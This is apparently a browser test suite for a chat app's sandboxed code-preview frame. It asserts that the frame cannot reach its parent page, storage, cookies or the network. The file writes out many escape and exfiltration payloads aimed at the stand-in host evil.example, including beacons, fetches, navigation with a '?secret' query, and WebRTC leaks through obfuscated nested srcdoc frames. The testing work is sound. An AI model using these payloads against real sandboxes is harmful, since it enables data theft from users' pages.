import { createSocket } from "node:dgram";
import type { Frame, Page } from "playwright-core";
import { describe, expect, it, onTestFinished } from "vitest";
import {
  ask,
  endedAnswers,
  expectQuiet,
  hasBrowser,
  type OpenPage,
  openPage,
  scriptedServer,
  useBrowser,
} from "../../support/page-in-browser.js";

/** Opens a page with an answer of one code block, and its preview. */
async function openPreview(language: string, code: string): Promise<OpenPage> {
  const { url } = await scriptedServer(() => ({ parts: [`\`\`\`${language}\n${code}\n\`\`\``] }));
  const opened = await openPage(url);
  await ask(opened.page, "Go");
  await endedAnswers(opened.page);
  await opened.page.getByRole("button", { name: "Preview" }).click();
  return opened;
}

async function previewOf(page: Page): Promise<Frame> {
  const frame = await (await page.locator("iframe.preview").elementHandle())?.contentFrame();
  if (frame == null) throw new Error("expected the frame of a preview");
  return frame;
}

/** Expressions that reach something outside a preview, unless they throw or return nothing. */
const ATTACKS: Readonly<Record<string, string>> = {
  "the page's document": "parent.document.title",
  "the page's address": "parent.location.href",
  "the page's storage": "parent.sessionStorage.length",
  "session storage": "sessionStorage.length + 1",
  "local storage": "localStorage.length + 1",
  cookies: "document.cookie = 'a=b', document.cookie",
  databases: "indexedDB.open('x')",
  "the server": "await (await fetch(new URL('/v1/models', document.baseURI))).text()",
  "another server": "await (await fetch('https://evil.example/', { mode: 'no-cors' })).type",
  "a synchronous request":
    "(() => { const request = new XMLHttpRequest(); request.open('GET', '/v1/models', false); request.send(); return request.status; })()",
  "an image": "await loaded(Object.assign(new Image(), { src: 'https://evil.example/x.png' }))",
  "an image of the server": "await loaded(Object.assign(new Image(), { src: '/page/icon.svg' }))",
  "a script":
    "await loaded(document.head.appendChild(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })))",
  "a style sheet":
    "await loaded(document.head.appendChild(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' })))",
  "a module": "await import('https://evil.example/x.js')",
  "a beacon": "void navigator.sendBeacon('https://evil.example/')",
  "a web socket":
    "await new Promise((resolve, reject) => { const socket = new WebSocket('wss://evil.example/'); socket.onopen = resolve; socket.onerror = reject; })",
  "an event source":
    "await new Promise((resolve, reject) => { const source = new EventSource('https://evil.example/'); source.onopen = resolve; source.onerror = reject; })",
  "a worker": "await loaded(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))))",
  "a service worker": "await navigator.serviceWorker.register('/x.js')",
  "a window": "open('https://evil.example/')",
  "a dialog": "confirm('Your key?')",
  "the top window": "top.location = 'https://evil.example/'",
  evaluation: "eval('1')",
  WebRTC: "new RTCPeerConnection()",
};

const ATTACK_PAGE = `<!doctype html>
<script>
const loaded = (target) => new Promise((resolve, reject) => {
  target.onload = () => resolve("loaded");
  target.onmessage = () => resolve("message");
  target.onerror = () => reject(new Error("refused"));
  setTimeout(() => reject(new Error("timeout")), 2000);
});
const attacks = {
${Object.entries(ATTACKS)
  .map(([name, code]) => `${JSON.stringify(name)}: async () => (${code}),`)
  .join("\n")}
};
(async () => {
  const successes = [];
  for (const [name, attack] of Object.entries(attacks)) {
    try {
      const timeout = new Promise((resolve) => setTimeout(resolve, 2000));
      const result = await Promise.race([attack(), timeout]);
      if (result) successes.push(name + ": " + result);
    } catch {}
  }
  document.body.innerHTML = "<p id=done></p>";
  document.getElementById("done").textContent = JSON.stringify(successes);
})();
</script>`;

/** Addresses that a page and its frames get a response from or navigate to, from now on. */
function watchResponses(page: Page): readonly string[] {
  const addresses: string[] = [];
  page.on("response", (response) => addresses.push(response.url()));
  page.on("popup", (popup) => addresses.push(popup.url()));
  page.on("framenavigated", (frame) => addresses.push(frame.url()));
  return addresses;
}

describe.skipIf(!hasBrowser)("previews of code", () => {
  useBrowser();

  it("show HTML with its scripts, as high as its content, and its source again", async () => {
    const code =
      '<style>body { margin: 0 }</style><div id="a" style="height: 300px"></div><script>a.textContent = 6 * 7;</script>';
    const opened = await openPreview("html", code);
    const { page } = opened;
    const frame = await previewOf(page);
    await frame.locator("#a", { hasText: "42" }).waitFor();
    const element = page.locator("iframe.preview");
    await expect.poll(async () => (await element.boundingBox())?.height).toBe(300);
    await frame.locator("#a").evaluate((block) => {
      block.style.height = "9000px";
    });
    await expect.poll(async () => (await element.boundingBox())?.height).toBe(560);
    await page.getByRole("button", { name: "Show source" }).click();
    expect(await page.locator("iframe").count()).toBe(0);
    expect(await page.locator(".answer pre").innerText()).toBe(code);
    expectQuiet(opened);
  });

  it("show SVG, and nothing for other languages", async () => {
    const opened = await openPreview(
      "svg",
      '<svg viewBox="0 0 10 10"><circle cx="5" cy="5" r="4" /></svg>',
    );
    await (await previewOf(opened.page)).locator("svg circle").waitFor();
    const { url } = await scriptedServer(() => ({ parts: ["```js\nlet a;\n```"] }));
    const { page } = await openPage(url);
    await ask(page, "Go");
    await endedAnswers(page);
    expect(await page.getByRole("button", { name: "Preview" }).count()).toBe(0);
    expectQuiet(opened);
  });

  it("show diagrams, and the errors of diagrams", async () => {
    const opened = await openPreview("mermaid", "flowchart LR\n  A[Start] --> B[End]");
    const { page } = opened;
    const frame = await previewOf(page);
    await frame.locator("svg", { hasText: "Start" }).waitFor();
    await expect
      .poll(async () => (await page.locator("iframe.preview").boundingBox())?.height)
      .toBeGreaterThanOrEqual(120);
    expectQuiet(opened);
    const { page: other } = await openPreview("mermaid", "flowchart LR\n  A[Start --> ");
    await other.getByRole("alert").getByText("The diagram has an error: ").waitFor();
    expect(await other.locator("iframe.preview").isVisible()).toBe(false);
  });

  it("load the renderer of diagrams only for diagrams", async () => {
    const { url } = await scriptedServer(() => ({ parts: ['```mermaid\npie\n  "a": 1\n```'] }));
    const { page } = await openPage(url);
    const responses = watchResponses(page);
    await ask(page, "Go");
    await endedAnswers(page);
    expect(responses.filter((one) => one.includes("mermaid"))).toEqual([]);
    await page.getByRole("button", { name: "Preview" }).click();
    await (await previewOf(page)).locator("svg").waitFor();
    expect(responses.filter((one) => one.includes("mermaid"))).toHaveLength(1);
  });

  it("cannot reach the page, its storage or the network", { timeout: 100_000 }, async () => {
    const { url } = await scriptedServer(() => ({ parts: [`\`\`\`html\n${ATTACK_PAGE}\n\`\`\``] }));
    const { page } = await openPage(url);
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page
      .context()
      .route("https://evil.example/**", (route) =>
        route.fulfill({ body: "evil", headers: { "access-control-allow-origin": "*" } }),
      );
    await ask(page, "Go");
    await endedAnswers(page);
    const responses = watchResponses(page);
    await page.getByRole("button", { name: "Preview" }).click();
    const frame = await previewOf(page);
    await frame.locator("#done").waitFor({ state: "attached" });
    expect(JSON.parse((await frame.locator("#done").textContent()) ?? "")).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(new Set(responses)).toEqual(new Set([`${url}/page/preview.html`]));
    expect(page.url()).toContain(url);
  });

  it.each([
    ['location = "https://evil.example/?secret"', "a script"],
    [
      'document.write(\'<meta http-equiv="refresh" content="0; url=https://evil.example/">\')',
      "a refresh",
    ],
    [
      'document.body.innerHTML = \'<a id="x" href="https://evil.example/">x</a>\'; x.click()',
      "a link",
    ],
    [
      'document.body.innerHTML = \'<form id="x" action="https://evil.example/"></form>\'; x.submit()',
      "a form",
    ],
    [
      "document.body.innerHTML = '<iframe src=\"https://evil.example/\"></iframe>'",
      "a frame in the frame",
    ],
  ])("cannot navigate to other servers: %s", async (script) => {
    const code = `<body><script>${script}</script>`;
    const { url } = await scriptedServer(() => ({ parts: [`\`\`\`html\n${code}\n\`\`\``] }));
    const { page, foreign } = await openPage(url);
    await ask(page, "Go");
    await endedAnswers(page);
    const sent: string[] = [];
    await page.context().route("https://evil.example/**", (route) => {
      sent.push(route.request().url());
      return route.fulfill({ body: "evil" });
    });
    await page.getByRole("button", { name: "Preview" }).click();
    await page.locator("iframe.preview").waitFor();
    // Nothing reports that a navigation did not take place.
    await page.waitForTimeout(1_500);
    expect(sent).toEqual([]);
    expect(foreign).toEqual([]);
    expect(page.url()).toContain(url);
  });

  it("cannot send datagrams by WebRTC, not even from frames in the frame", async () => {
    const socket = createSocket("udp4");
    onTestFinished(() => {
      socket.close();
    });
    const received: number[] = [];
    socket.on("message", (message) => received.push(message.length));
    await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
    const attack = `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${socket.address().port}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o));`;
    const nested = `<script>${attack}</script>`.replaceAll('"', "&quot;");
    const inScript = (code: string) =>
      `<script>{ const f = document.createElement("iframe"); const a = document.createAttribute("src" + "doc"); const text = ${JSON.stringify(`<script>${attack}<`)} + "/script>"; ${code}; document.body.append(f); }</script>`;
    const opened = await openPreview(
      "html",
      [
        `<body><script>try { ${attack} } catch {}</script>`,
        `<iframe srcdoc="${nested}"></iframe><iframe SrcDoc='${nested}'></iframe>`,
        inScript('f["src" + "doc"] = text'),
        inScript('f.setAttribute("src" + "doc", text)'),
        inScript("a.value = text; f.setAttributeNode(a)"),
        inScript("f.setAttributeNode(a); a.value = text"),
        inScript(`f.src = "javascript:" + ${JSON.stringify(attack)}`),
        inScript(
          'const t = document.createElement("template"); t.innerHTML = "<iframe src" + "doc=\'" + text + "\'>"; document.body.append(t.content)',
        ),
      ].join("\n"),
    );
    await opened.page.waitForTimeout(3_000);
    expect(received).toEqual([]);
    // The same connection sends datagrams elsewhere.
    await opened.page
      .context()
      .newPage()
      .then((page) => page.evaluate(attack));
    await expect.poll(() => received.length).toBeGreaterThan(0);
  });

  it("accept messages of their frame only, and limit its height", async () => {
    const opened = await openPreview(
      "html",
      '<script>for (const height of [1e9, -5, "x", NaN, {}]) parent.postMessage({ height }, "*"); parent.postMessage(null, "*"); parent.postMessage({ ready: true }, "*")</script>',
    );
    const { page } = opened;
    await previewOf(page);
    await page.evaluate(() => postMessage({ height: 400, error: "spoofed" }, "*"));
    await page.waitForTimeout(500);
    const box = await page.locator("iframe.preview").boundingBox();
    expect(box?.height).toBeLessThanOrEqual(560);
    expect(await page.getByText("spoofed").count()).toBe(0);
    expectQuiet(opened);
  });
});
